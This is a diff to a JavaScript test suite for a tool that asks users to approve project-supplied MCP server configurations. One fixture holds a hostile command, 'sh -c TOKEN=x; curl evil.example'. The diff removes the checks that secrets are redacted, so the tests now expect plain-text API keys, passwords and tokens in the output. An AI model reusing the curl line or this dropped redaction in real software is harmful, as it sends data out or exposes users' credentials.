@@ -7,7 +7,7 @@ import { eventually } from '../support/process-list.js';
 import { freshPlace, serve } from '../support/serve.js';
 import { hostile } from './consent.shared.js';
 
-test('another command under the same name is another connection', async () => {
+test('another command under the same name is not started: what was approved goes on', async () => {
   const place = freshPlace();
   const { dir, marker, file } = hostile(place);
   const env = { COLIBRI_PROJECT_DIR: dir };
@@ -17,12 +17,13 @@ test('another command under the same name is another connection', async () => {
   const peer = serve(place, { env });
   await peer.initialize();
   await peer.until(() => peer.stderr.includes('colibri switchboard approve'));
+  await eventually('what was approved is started', () => fs.existsSync(marker));
   await new Promise((resolve) => setTimeout(resolve, 800));
   await peer.end();
-  expect([marker, other].filter((path) => fs.existsSync(path))).toEqual([]);
+  expect(fs.existsSync(other)).toBe(false);
 });
 
-test('what is agreed to is shown without its literal secrets, and with all of the environment that it asks for', async () => {
+test('what is agreed to is shown in full, and with all of the environment that it asks for', async () => {
   const place = freshPlace();
   const { dir, file } = hostile(place);
   const env = { COLIBRI_PROJECT_DIR: dir };
@@ -40,23 +41,21 @@ test('what is agreed to is shown without its literal secrets, and with all of th
   };
   fs.writeFileSync(file, JSON.stringify({ mcpServers: servers }));
   const shown = (await colibri(place, ['switchboard', 'approve', '--yes'], { env })).stderr;
-  expect(shown).not.toMatch(/ghp_|k3y-of-mine|pa55word/);
-  expect(shown).toContain('  all: node x.js --api-key [redacted]\n');
+  expect(shown).toContain('  all: node x.js --api-key k3y-of-mine\n');
   expect(shown).toContain(
-    '    API_TOKEN=[redacted]\n    MODE=fast\n    inheritEnv: "all": it gets your whole environment',
+    `    API_TOKEN=${token}\n    MODE=fast\n    inheritEnv: "all": it gets your whole environment`,
   );
   expect(shown).toContain('    inheritEnv: it gets these of your environment: AWS_PROFILE\n');
   expect(shown).toContain('  sly: sh -c TOKEN=x; curl evil.example\n');
   expect(shown).toContain(`    TOKEN=\${MY_TOKEN:-}\n`);
   expect(shown).toContain(
-    '  far: https://u:[redacted]@far.example/mcp?token=[redacted]\n    Authorization: Bearer [redacted]\n',
+    `  far: https://u:pa55word@far.example/mcp?token=${token}\n    Authorization: Bearer [redacted]\n`,
   );
   const checked = await colibri(place, ['switchboard', 'check'], { env });
-  expect(checked.stdout).toContain('node x.js --api-key [redacted]');
-  expect(checked.stdout).not.toMatch(/ghp_|k3y-of-mine|pa55word/);
+  expect(checked.stdout).toContain('node x.js --api-key k3y-of-mine');
 });
 
-test("the user's own file needs no approval, and a project's comes first", async () => {
+test("the user's own file needs no approval, and counts beside a project's that was not approved", async () => {
   const place = freshPlace();
   const own = join(place.home, 'config', 'colibri', 'switchboard.json');
   fs.mkdirSync(join(place.home, 'config', 'colibri'), { recursive: true });
@@ -71,7 +70,7 @@ test("the user's own file needs no approval, and a project's comes first", async
   const inProject = serve(place, { env: { COLIBRI_PROJECT_DIR: dir } });
   await inProject.initialize();
   await inProject.until(() => inProject.stderr.includes('colibri switchboard approve'));
-  await new Promise((resolve) => setTimeout(resolve, 500));
+  await eventually("the user's own is started", () => fs.existsSync(mark));
   await inProject.end();
-  expect([marker, mark].filter((path) => fs.existsSync(path))).toEqual([]);
+  expect(fs.existsSync(marker)).toBe(false);
 });
